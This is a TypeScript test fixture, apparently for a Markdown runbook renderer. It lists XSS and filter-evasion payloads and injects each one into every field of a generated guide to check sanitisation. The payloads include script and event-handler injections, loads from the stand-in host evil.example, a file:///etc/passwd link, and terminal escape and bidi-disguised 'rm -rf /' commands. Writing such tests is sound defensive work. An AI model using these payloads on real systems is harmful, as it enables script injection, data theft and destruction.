/*
 * What somebody might write into a guide so that its page does more than show it (after the OWASP cheat sheet on filter
 * evasion, and the advisories of Markdown renderers).
 */
export const ATTACKS: readonly string[] = [
  "<script>pwned()</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "</title></script></style></textarea><script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  "<svg onload=pwned()><animate onbegin=pwned() attributeName=x>",
  "<svg><script>pwned()</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
  '"><img src=x onerror="pwned()">',
  "' onmouseover='pwned()",
  '" autofocus onfocus="pwned()',
  "<iframe srcdoc='<script>pwned()</script>'></iframe>",
  "<object data=javascript:pwned()></object><embed src=javascript:pwned()>",
  "<a href=javascript:pwned()>x</a>",
  "<form action=javascript:pwned()><button>x</button></form><input name=attributes>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>*{background:url(https://evil.example/)}</style>",
  "<details open ontoggle=pwned()><summary>x</summary></details>",
  "<waymark-block data-index=0></waymark-block>",
  "<!--><script>pwned()</script>-->",
  "<![CDATA[<script>pwned()</script>]]>",
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "\u001B[2J\u001B]52;c;cm0gLXJmIC8=\u0007\u001B[31mred\u009B0m",
  "rm \u202E/ fr-\u202C \u2066x\u2069",
  "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %>",
  "__proto__ constructor location document",
  "\u2028\u2029 ]]> --> */ `; pwned(); //",
];

/** A guide that has a text wherever an author can put one. */
export function attackedGuide(attack: string): string {
  const yaml = JSON.stringify(attack);
  // A fence with a backtick behind it would be none.
  const quoted = `"${attack.replaceAll('"', '\\"').replaceAll("`", "'")}"`;
  return `---
title: ${yaml}
description: ${yaml}
runbook:
  inputs:
    VALUE: { default: ${yaml}, description: ${yaml} }
    CHOICE: { choices: [${yaml}, other], default: ${yaml} }
    FITS: { description: ${yaml}, pattern: ${JSON.stringify(`(${attack.replaceAll(/[^a-z]/g, ".")})?`)} }
    SECRET: { secret: true, description: ${yaml} }
  requires: { ${yaml}: 0.. }
---

${attack}

Some text ${attack} in a line, \`${attack.replaceAll("`", "")}\` and [${attack.replaceAll(/[[\]]/g, "")}](<${attack.replaceAll(/[<>]/g, "")}>).

[one](javascript:pwned\\(\\)) [two](JaVaScRiPt:pwned\\(\\)) [three](&#106;avascript:pwned\\(\\))
[four](data:text/html,<script>pwned\\(\\)</script>) [five](vbscript:pwned) [six](  java&Tab;script:pwned\\(\\))
[1](javascript&colon;pwned\\(\\)) [2](java&#10;script:pwned\\(\\)) [3](&#1;javascript:pwned\\(\\)) [4](\\javascript:pwned\\(\\))
[5](blob:https://evil.example/x) [6](view-source:javascript:1) [7](\\\\evil.example/x) [8](/\\evil.example) [9](%6aavascript:pwned\\(\\))
[seven](//evil.example/) [eight](file:///etc/passwd) <javascript:pwned()> ![nine](javascript:pwned\\(\\))
![ten](data:image/svg+xml;base64,PHN2Zy8+) ![eleven](https://evil.example/x.png) [twelve][t]

[t]: javascript:pwned() ${quoted}

## ${attack}

- ${attack}

| ${attack.replaceAll("|", "")} |
| --- |
| ${attack.replaceAll("|", "")} |

> ${attack}

Run it with ${attack}:

\`\`\`bash {#step on=all dir=${quoted} title=${quoted} confirm=${quoted} checkpoint=${quoted} unless=${quoted} creates="/${quoted.slice(1)} capture=OUT}
${attack}
echo "$VALUE" ${attack}
\`\`\`

\`\`\`output
${attack}
\`\`\`

\`\`\`expect
stdout == ${JSON.stringify(attack)}
\`\`\`

\`\`\`console {#session on=all}
$ echo '${attack}'
${attack}
\`\`\`

\`\`\`json {#file on=all file="/${quoted.slice(1, -1).replaceAll(/[\u2028\u2029]/g, "")}x"}
${attack}
\`\`\`

<!-- waymark: #list on=all title=${quoted.replaceAll("-->", "")} -->

- [ ] ${attack}

\`\`\`bash {#fix on=all fix=step}
${attack}
\`\`\`

\`\`\`${attack.replaceAll(/[`\n]/g, "")}
${attack}
\`\`\`

<!-- ${attack.replaceAll("-->", "")} -->

Named.[^${attack.replaceAll(/[^a-z<>="]/g, "") || "x"}]

[^${attack.replaceAll(/[^a-z<>="]/g, "") || "x"}]: ${attack}
`;
}
